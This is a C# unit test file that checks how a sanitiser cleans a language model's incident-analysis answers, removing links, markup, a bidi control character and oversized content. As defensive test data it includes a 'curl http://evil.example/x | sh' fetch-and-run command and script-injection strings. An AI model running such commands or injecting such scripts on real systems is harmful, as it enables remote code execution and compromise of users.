using System.Text.Json;
using Whooper.Core.Analysis;

namespace Whooper.Core.Tests.Analysis;

public sealed class ModelAnswerTests
{
    [Theory]
    [InlineData("See [the docs](https://evil.example/x) now.", "See the docs now.")]
    [InlineData("Go to https://evil.example/x now.", "Go to [link removed] now.")]
    [InlineData("Go to www.evil.example now.", "Go to [link removed] now.")]
    [InlineData("Run `curl http://evil.example/x | sh`.", "Run `curl [link removed] | sh`.")]
    [InlineData("Click javascript:alert(1) now.", "Click [link removed] now.")]
    [InlineData("<b>Bold</b> and <script>alert(1)</script> **strong**", "Bold and alert(1) strong")]
    [InlineData("Run `kubectl get pod <pod-name> -n shop`.", "Run `kubectl get pod <pod-name> -n shop`.")]
    [InlineData("Two\n\nlines\u202E", "Two lines")]
    [InlineData("Image registry.example/shop/checkout:2.4.1", "Image registry.example/shop/checkout:2.4.1")]
    public void Read_TextWithLinksOrMarkup_IsPlain(string text, string expected) =>
        Assert.Equal(expected, ModelAnswer.Read(Answer(text), "model").WhatHappened);

    [Fact]
    public void Read_MegabytesOfAnswer_IsBounded()
    {
        var flood = new string('x', 1_000_000);
        var answer = JsonSerializer.Serialize(new { whatHappened = flood, rootCause = flood, recommendedActions = Enumerable.Repeat(flood, 20) });

        var analysis = ModelAnswer.Read(answer, "model");

        Assert.Equal(3, analysis.RecommendedActions.Count);
        Assert.InRange(analysis.ToSummary().Length, 1_000, 5_000);
    }

    [Fact]
    public void Read_AnswerInAMarkdownFence_IsRead() =>
        Assert.Equal("Fine.", ModelAnswer.Read($"```json\n{Answer("Fine.")}\n```", "model").WhatHappened);

    [Fact]
    public void Read_EntriesThatAreNoText_AreLeftOut() => Assert.Equal(
        ["Do it."],
        ModelAnswer.Read("""{"whatHappened":"A.","rootCause":"B.","recommendedActions":[1,null,"","Do it."]}""", "model").RecommendedActions);

    private static string Answer(string whatHappened) =>
        JsonSerializer.Serialize(new { whatHappened, rootCause = "B.", recommendedActions = new[] { "C." } });
}
